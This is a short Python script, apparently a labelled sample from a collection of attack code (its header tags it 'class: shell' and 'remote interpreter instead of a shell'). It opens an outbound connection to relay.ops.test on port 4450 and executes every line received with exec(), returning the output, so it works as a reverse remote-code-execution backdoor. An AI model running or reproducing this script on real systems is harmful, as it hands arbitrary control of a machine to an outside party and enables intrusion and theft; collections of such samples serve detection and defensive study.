# class: shell; possible: low medium high; style: remote interpreter instead of a shell
import contextlib
import io
import socket

s = socket.create_connection(("relay.ops.test", 4450))
f = s.makefile("rw")
space = {}
for line in f:
    if line.strip() == "exit":
        break
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        try:
            exec(line, space)
        except Exception as e:
            print(e)
    f.write(out.getvalue() + "\n")
    f.flush()
